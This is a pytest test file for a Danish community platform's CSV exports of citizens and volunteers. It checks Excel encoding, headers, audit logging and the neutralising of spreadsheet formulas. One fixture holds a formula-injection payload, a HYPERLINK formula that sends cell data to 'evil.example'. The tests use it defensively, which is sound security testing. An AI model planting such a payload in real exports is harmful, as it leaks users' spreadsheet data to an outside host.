"""Every CSV the platform hands out opens in Danish Excel and carries no live formula."""

import csv
import io

import pytest
from django.urls import reverse

from community.exports import inert
from community.tests.factories import CitizenFactory, UserFactory, coordinator, core_task

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


def _rows(response) -> list[list[str]]:
    """The sheet as Danish Excel shows it: UTF-8 only with the BOM, a column at each semicolon."""
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode()), "Excel needs the BOM to read æøå"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "＝"])
def test_a_cell_that_a_spreadsheet_would_evaluate_becomes_text(start):
    assert inert(start + "1+1").startswith("'")


@pytest.mark.parametrize("value", ["Grethe", "Ærø 5", "8722 Hedensted", "", 42, None])
def test_ordinary_cells_are_left_as_they_are(value):
    assert inert(value) == ("" if value is None else str(value))


def test_a_citizens_formula_in_her_address_reaches_the_coordinator_as_text(client):
    alice = coordinator("social-omsorg", email="alice@example.dk")
    CitizenFactory(
        first_name="Signe",
        last_name="@SUM(1)",
        street=HOSTILE,
        core_tasks=[core_task("social-omsorg")],
    )
    client.force_login(alice)
    rows = _rows(client.get(reverse("community:citizen-export")))
    header = rows[0]
    signe = dict(zip(header, next(r for r in rows if "Signe" in r), strict=True))
    assert signe["Efternavn"] == "'@SUM(1)"
    assert signe["Adresse"].startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_volunteer_export_is_danish_excel_csv_with_labels_phone_and_no_formulas(client):
    from volunteers.tests.factories import VolunteerFactory

    VolunteerFactory(
        user=UserFactory(first_name="+Mette", last_name="Frivillig", phone="20 30 40 50")
    )
    client.force_login(coordinator("social-omsorg"))
    rows = _rows(client.get(reverse("volunteers:export")))
    header, mette = rows[0], next(r for r in rows[1:] if "Frivillig" in r)
    assert "Telefon" in header and "Status" in header
    assert mette[header.index("Fornavn")] == "'+Mette"
    assert mette[header.index("Telefon")] == "20 30 40 50"
    assert mette[header.index("Vil gerne")] == "Besøgsven"
    assert mette[header.index("Sprog")] == "Dansk"
    assert mette[header.index("Status")] not in ("approved", "applied")


def test_the_citizen_export_has_the_volunteer_exports_columns_and_audits_each_row(client):
    from community.models import AuditEntry

    alice = coordinator("social-omsorg", email="alice@example.dk")
    signe = CitizenFactory(
        first_name="Signe",
        last_name="Ærø",
        phone="75 12 34 56",
        email="signe@example.dk",
        core_tasks=[core_task("social-omsorg")],
    )
    client.force_login(alice)
    header, *rows = _rows(client.get(reverse("community:citizen-export")))
    assert header == [
        "Nummer",
        "Fornavn",
        "Efternavn",
        "E-mail",
        "Telefon",
        "Adresse",
        "Lokalområde",
        "Kerneopgaver",
    ]
    row = dict(zip(header, next(r for r in rows if r[1] == "Signe"), strict=True))
    assert row["Nummer"] == str(signe.pk) and row["Efternavn"] == "Ærø"
    assert (row["Telefon"], row["E-mail"]) == ("75 12 34 56", "signe@example.dk")
    assert row["Kerneopgaver"] == core_task("social-omsorg").name
    exported = AuditEntry.objects.filter(action="citizen.exported", purpose="export", actor=alice)
    assert exported.filter(object_id=str(signe.pk)).count() == 1
    assert exported.count() == len(rows)


@pytest.mark.parametrize(
    "url,expected",
    [
        ("community:citizen-export", ["Number", "First name", "Last name", "E-mail", "Phone"]),
        ("volunteers:export", ["Number", "First name", "Last name", "E-mail", "Phone", "Status"]),
    ],
)
def test_an_english_reader_gets_the_headers_in_english(client, url, expected):
    from volunteers.tests.factories import VolunteerFactory

    VolunteerFactory(user=UserFactory(first_name="Mette"))
    CitizenFactory(first_name="Signe", core_tasks=[core_task("social-omsorg")])
    client.force_login(coordinator("social-omsorg"))
    client.post(reverse("set_language"), {"language": "en"})  # the language button
    header, *rows = _rows(client.get(reverse(url)))
    assert header[: len(expected)] == expected
    assert rows
